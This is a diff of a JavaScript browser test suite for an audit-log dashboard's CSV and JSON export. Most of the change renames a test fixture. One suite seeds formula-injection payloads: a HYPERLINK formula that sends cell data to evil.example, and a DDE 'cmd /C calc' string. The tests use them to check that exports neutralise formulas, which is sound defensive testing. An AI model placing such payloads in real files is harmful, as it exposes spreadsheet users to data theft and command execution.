@@ -2,8 +2,8 @@
 import assert from "node:assert/strict";
 import { readFile } from "node:fs/promises";
 import { after, before, describe, it } from "node:test";
+import { dashboard, PHONE } from "./fixture.mjs";
 import { gateTo } from "./gate.mjs";
-import { dashboard, PHONE } from "./world.mjs";
 
 /**
  * Has the browser write into files of its own, as it would into those that one chooses: nobody is there to choose. With
@@ -27,7 +27,7 @@ const files = (page) =>
     return found;
   });
 
-async function opened(world, page) {
+async function opened(fixture, page) {
   await page.locator("tr[data-entry]").first().waitFor();
   await page.getByRole("button", { name: "Export", exact: true }).click();
   const dialog = page.getByRole("dialog");
@@ -36,7 +36,7 @@ async function opened(world, page) {
     choose: (name) => dialog.getByLabel(name).check(),
     start: () => dialog.getByRole("button", { name: "Export", exact: true }).click(),
     says: (text) => dialog.getByText(text).first().waitFor({ timeout: 60_000 }),
-    axe: () => world.accessible(page),
+    axe: () => fixture.accessible(page),
   };
 }
 
@@ -45,34 +45,34 @@ const SHOWN = /Everything shown/;
 
 for (const dialect of ["sdk", "adapter"]) {
   describe(`exports, ${dialect} dialect`, () => {
-    const world = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "3000"] });
+    const fixture = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "3000"] });
     let gate;
     before(async () => {
-      gate = await gateTo(world.baseUrl);
+      gate = await gateTo(fixture.baseUrl);
       // What is hard to write down.
-      const [agent] = await world.kavach.agents.list({ status: "active" });
+      const [agent] = await fixture.kavach.agents.list({ status: "active" });
       const args = { text: 'a "quoted", word\r\nand a line', more: "ünï" };
-      await world.kavach.authorize(agent.id, { action: "a,b", resource: 'x:"y"', arguments: args });
+      await fixture.kavach.authorize(agent.id, { action: "a,b", resource: 'x:"y"', arguments: args });
     });
     after(() => gate.close());
     const throughGate = async (path) => {
-      const page = await world.open(path, { connect: false });
+      const page = await fixture.open(path, { connect: false });
       await page.locator('input[name="server"]').fill(gate.baseUrl);
-      world.opened.get(page).strangers.length = 0;
-      await world.connect(page);
+      fixture.opened.get(page).strangers.length = 0;
+      await fixture.connect(page);
       return page;
     };
     const close = async (page) => {
-      world.opened.get(page).strangers.length = 0; // The gate is another host.
-      await world.close(page);
+      fixture.opened.get(page).strangers.length = 0; // The gate is another host.
+      await fixture.close(page);
     };
 
     it("saves what the server writes, byte for byte, and follows the range of time", async () => {
-      const all = await world.kavach.audit.query();
+      const all = await fixture.kavach.audit.query();
       const range = { since: all[2000].timestamp, until: all[300].timestamp };
-      const page = await world.open(`/audit?since=${range.since}&until=${range.until}&result=denied`);
+      const page = await fixture.open(`/audit?since=${range.since}&until=${range.until}&result=denied`);
       await choosing(page);
-      const { choose, start, says, axe } = await opened(world, page);
+      const { choose, start, says, axe } = await opened(fixture, page);
       await says("It follows the range of time, not the other filters.");
       await choose(SERVERS);
       for (const [label, format] of [
@@ -81,38 +81,38 @@ for (const dialect of ["sdk", "adapter"]) {
       ]) {
         await choose(label);
         await start();
-        const expected = await world.kavach.audit.export({ format, ...range });
-        const rows = (await world.kavach.audit.query(range)).length;
+        const expected = await fixture.kavach.audit.export({ format, ...range });
+        const rows = (await fixture.kavach.audit.query(range)).length;
         await says(`${rows.toLocaleString("en")} rows,`);
         await page.waitForFunction((end) => document.querySelector("dialog strong")?.textContent.endsWith(end), format);
         const [, text] = Object.entries(await files(page)).find(([name]) => name.endsWith(`.${format}`));
         assert.equal(text, expected);
       }
       await axe();
-      await world.close(page);
+      await fixture.close(page);
     });
 
     it("downloads it whole where files cannot be written bit by bit", async () => {
-      const page = await world.open("/audit", { viewport: PHONE });
+      const page = await fixture.open("/audit", { viewport: PHONE });
       await choosing(page, { none: true });
-      const { choose, start, says, axe } = await opened(world, page);
+      const { choose, start, says, axe } = await opened(fixture, page);
       await says("held in memory until it is whole");
       await choose("JSON");
-      await world.fits(page);
+      await fixture.fits(page);
       await axe();
       const [download] = await Promise.all([page.waitForEvent("download"), start()]);
       assert.match(download.suggestedFilename(), /^audit-[\dT-]+\.json$/);
       const text = await readFile(await download.path(), "utf8");
-      assert.equal(text, await world.kavach.audit.export({ format: "json" }));
-      await world.close(page);
+      assert.equal(text, await fixture.kavach.audit.export({ format: "json" }));
+      await fixture.close(page);
     });
 
     it("exports all that is shown, with all filters, in forms that can be read back", async () => {
       const filters = { result: "denied" };
-      const entries = await world.kavach.audit.query(filters);
-      const page = await world.open("/audit?result=denied");
+      const entries = await fixture.kavach.audit.query(filters);
+      const page = await fixture.open("/audit?result=denied");
       await choosing(page);
-      const { choose, start, says } = await opened(world, page);
+      const { choose, start, says } = await opened(fixture, page);
       await start();
       await says(`${entries.length} rows,`);
       await choose("JSON, one entry on each line");
@@ -134,13 +134,13 @@ for (const dialect of ["sdk", "adapter"]) {
         ),
       );
       assert.ok(entries.some(({ parameters }) => parameters.text?.includes("\r\n")));
-      await world.close(page);
+      await fixture.close(page);
     });
 
     it("stops the transfer when it is cancelled, and leaves no file", async () => {
       const page = await throughGate("/audit");
       await choosing(page);
-      const { dialog, choose, start, says } = await opened(world, page);
+      const { dialog, choose, start, says } = await opened(fixture, page);
       await choose(SERVERS);
       await choose("JSON");
       gate.hold("/audit/export", 200_000);
@@ -160,7 +160,7 @@ for (const dialect of ["sdk", "adapter"]) {
     it("says that a transfer broke off, leaves no file, and tries again", async () => {
       const page = await throughGate("/audit");
       await choosing(page);
-      const { dialog, choose, start, says, axe } = await opened(world, page);
+      const { dialog, choose, start, says, axe } = await opened(fixture, page);
       await choose(SERVERS);
       await choose("CSV");
       gate.hold("/audit/export", 100_000);
@@ -171,10 +171,10 @@ for (const dialect of ["sdk", "adapter"]) {
       await axe();
       assert.deepEqual(await files(page), {});
       await dialog.getByRole("button", { name: "Try again" }).click();
-      const rows = (await world.kavach.audit.query()).length;
+      const rows = (await fixture.kavach.audit.query()).length;
       await says(`${rows.toLocaleString("en")} rows,`);
       const [text] = Object.values(await files(page));
-      assert.equal(text, await world.kavach.audit.export({ format: "csv" }));
+      assert.equal(text, await fixture.kavach.audit.export({ format: "csv" }));
       await close(page);
     });
 
@@ -188,7 +188,7 @@ for (const dialect of ["sdk", "adapter"]) {
         await file.close();
         globalThis.showSaveFilePicker = async () => handle;
       });
-      const { choose, start, says } = await opened(world, page);
+      const { choose, start, says } = await opened(fixture, page);
       await choose(SHOWN);
       gate.hold("/audit", 10_000);
       await start();
@@ -208,21 +208,21 @@ for (const dialect of ["sdk", "adapter"]) {
   });
 
   describe(`exports of what an agent made up, ${dialect} dialect`, () => {
-    const world = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "20"] });
+    const fixture = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "20"] });
     const calls = [
       { action: '=HYPERLINK("http://evil.example/?"&A1,"Sign in")', resource: "mcp:github:repos" },
       { action: "read", resource: "@SUM(1+1)*cmd|' /C calc'!A0" },
       { action: "-2+3", resource: "\t=1+1", arguments: { text: "a;=1+1" } },
     ];
     before(async () => {
-      const [agent] = await world.kavach.agents.list({ status: "active" });
-      for (const call of calls) await world.kavach.authorize(agent.id, call);
+      const [agent] = await fixture.kavach.agents.list({ status: "active" });
+      for (const call of calls) await fixture.kavach.authorize(agent.id, call);
     });
 
     it("hold no formula as CSV, and all of it as JSON", async () => {
-      const page = await world.open("/audit");
+      const page = await fixture.open("/audit");
       await choosing(page);
-      const { dialog, choose, start, says } = await opened(world, page);
+      const { dialog, choose, start, says } = await opened(fixture, page);
       const textOf = async (extension) => {
         await page.waitForFunction(
           (end) => document.querySelector("dialog strong")?.textContent.endsWith(end),
@@ -235,7 +235,7 @@ for (const dialect of ["sdk", "adapter"]) {
         await choose("CSV");
         await says("Text that a spreadsheet would run as a formula begins with an apostrophe.");
         await start();
-        await says(`${(await world.kavach.audit.query()).length} rows,`);
+        await says(`${(await fixture.kavach.audit.query()).length} rows,`);
         const text = await textOf("csv");
         for (const cell of parseCsv(`${text.replaceAll("\r\n", "\n").trimEnd().replaceAll("\n", "\r\n")}\r\n`).flat())
           assert.doesNotMatch(cell, /^["\s]*[=+\-@\t]/);
@@ -250,17 +250,17 @@ for (const dialect of ["sdk", "adapter"]) {
           for await (const name of folder.keys()) await folder.removeEntry(name);
         });
       }
-      await world.close(page);
+      await fixture.close(page);
     });
   });
 
   describe(`exports of more than 10,000 rows, ${dialect} dialect`, () => {
-    const world = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "12000"] });
+    const fixture = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "12000"] });
 
     it("says that the server left rows out, and fetches all of them", async () => {
-      const page = await world.open("/audit");
+      const page = await fixture.open("/audit");
       await choosing(page);
-      const { dialog, choose, start, says, axe } = await opened(world, page);
+      const { dialog, choose, start, says, axe } = await opened(fixture, page);
       await choose(SERVERS);
       await choose("JSON");
       await start();
@@ -275,9 +275,9 @@ for (const dialect of ["sdk", "adapter"]) {
         .map((line) => JSON.parse(line).id);
       assert.deepEqual(
         ids,
-        (await world.kavach.audit.query()).map(({ id }) => id),
+        (await fixture.kavach.audit.query()).map(({ id }) => id),
       );
-      await world.close(page);
+      await fixture.close(page);
     });
   });
 }
